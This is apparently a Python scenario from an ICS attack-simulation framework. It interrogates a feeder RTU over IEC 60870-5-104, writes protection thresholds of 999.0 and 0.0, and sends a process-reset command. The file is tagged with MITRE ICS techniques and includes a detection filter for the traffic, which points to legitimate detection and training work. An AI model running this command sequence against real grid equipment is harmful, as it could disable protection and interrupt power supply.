"""The feeder RTU is read out, its parameter written and its process reset."""

from __future__ import annotations

import struct

from ..frames import STARTDT, Tcp, iec104
from ..node import Node

TITLE = "Feeder RTU interrogated, a threshold written and the process reset by a new master"
TECHNIQUES = ("T0816", "T0836", "T0861")
ORIGIN = "laptop"
ENTITIES = ("laptop", "rtu-feeder")
EVIDENCE = "iec60870_asdu.typeid in {101, 105, 112} && ip.src == 10.20.1.99"


def run(node: Node) -> None:
    """Interrogation, counters, a parameter of measured values, and a reset."""
    connection = Tcp(node.peer("rtu-feeder"), 2404)
    connection.say(STARTDT)
    asked = ((100, b"\x14", 0), (101, b"\x45", 0), (112, struct.pack("<f", 999.0) + b"\x01", 11),
             (112, struct.pack("<f", 0.0) + b"\x01", 12), (105, b"\x01", 0))  # fmt: skip
    for number, (type_id, element, address) in enumerate(asked):
        connection.say(iec104(type_id, 6, address, element, number))
        node.pause(0.6)
    connection.close()
